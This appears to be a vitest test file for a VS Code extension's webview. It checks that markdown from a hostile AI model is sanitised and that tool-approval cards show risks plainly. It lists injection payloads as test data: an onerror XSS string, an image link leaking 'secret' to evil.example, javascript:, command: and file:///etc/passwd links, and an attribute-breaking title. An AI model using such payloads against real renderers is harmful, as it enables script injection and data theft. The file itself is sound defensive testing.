// What is drawn: the model's text cannot act in the webview, and the card shows what it has to.
import { renderToString } from 'preact-render-to-string';
import { describe, expect, test } from 'vitest';
import { EMPTY, reduce } from '../src/view';
import { markdown } from '../src/webview/markdown';
import { TurnView } from '../src/webview/turn';
import { call, events, question, SESSION, started, toolResult, TURN, type Sent } from './events';

function drawn(...all: readonly Sent[]): string {
  const asked = reduce(EMPTY, { type: 'asked', session_id: SESSION, turn_id: TURN, prompt: '<b>hi</b>' });
  const view = events(...all).reduce((each, event) => reduce(each, { type: 'event', event }), asked);
  return renderToString(<TurnView turn={view.turns[0]!} send={() => undefined} />);
}

describe('markdown of a hostile model', () => {
  test.each([
    ['HTML', '<img src=x onerror=alert(1)>', '<img'],
    ['an image, which would fetch', '![x](https://evil.example/?q=secret)', '<img'],
    ['a VS Code command', '[x](command:workbench.action.quit)', '<a'],
    ['a script address', '[x](javascript:alert(1))', '<a'],
    ['a file', '[x](file:///etc/passwd)', '<a'],
    ['an editor address', '[x](vscode://a.b/c)', '<a'],
    ['an attribute', '[x](https://a.example "\" onclick=\"alert(1)")', 'onclick="'],
  ])('%s does nothing', (_name, text, forbidden) => { expect(markdown(text)).not.toContain(forbidden); });

  test('a link to the web says where it leads', () => {
    expect(markdown('[docs](https://example.org/a)')).toContain('title="https://example.org/a"');
  });

  test('code is highlighted, and escaped where its language is unknown', () => {
    expect(markdown('```python\ndef f(): pass\n```')).toContain('hljs-keyword');
    expect(markdown('```zz\n<script>\n```')).toContain('&lt;script&gt;');
  });
});

describe('the approval card', () => {
  const html = drawn(started, call, question({
    title: 'Edit a\u202E.py\nnow',
    risk: 'high',
    reasons: [{ rule: 'writes-are-reviewed', layer: 'default', action: 'require_review', reason: 'shown first', file: 'p.yaml', line: 3 }],
    diffs: [{ path: 'a.py', diff: '@@ -1 +1 @@\n-<b>\n+c\n', before_digest: null, after_digest: null, created: false }],
    argv: ['sh', '-c', 'rm x'], cwd: 'src',
  }));

  test('shows what, why, where and how risky, with nothing hidden', () => {
    for (const part of ['Edit a⟨U+202E⟩.py↵now', 'writes-are-reviewed', 'shown first', 'p.yaml:3', 'high risk',
      "sh -c 'rm x'", '<code>src</code>', '&lt;b>', 'class="add"', 'class="remove"', 'Open diff']) {
      expect(html).toContain(part);
    }
  });

  test('offers what the server offers, and takes no "allow" before it has been seen', () => {
    expect(html).toMatch(/<button[^>]*disabled[^>]*>Allow once</);
    expect(html).toMatch(/<button[^>]*disabled[^>]*>Allow for session</);
    expect(html).toMatch(/<button type="button" class="secondary">Deny</);
    expect(drawn(started, question({ scopes: ['once'] }))).not.toContain('Allow for session');
  });

  test('becomes one line once it is resolved', () => {
    const done = drawn(started, question(), { kind: 'approval_resolved', approval_id: 'a1', decision: 'deny', scope: 'once', by: 'deadline' });
    expect(done).toContain('<b>Denied</b> by the deadline: nobody answered');
    expect(done).not.toContain('Allow once');
  });
});

test('what the person typed is text', () => { expect(drawn(started)).toContain('&lt;b>hi&lt;/b>'); });

test('a refused call says what, why and how to go on, and who decided', () => {
  const html = drawn(started, call, toolResult({
    ok: false, decision: 'gate', rules: [],
    error: { code: 'tool_not_allowed_for_intent', message: '', retryable: true, what: 'it was refused', why: 'PLAN has no tools', fix: 'declare WRITE_FILE' },
  }));
  for (const part of ['It was refused.', 'PLAN has no tools.', 'Declare WRITE_FILE.', '>gate<', 'aria-label="not done"']) {
    expect(html).toContain(part);
  }
});
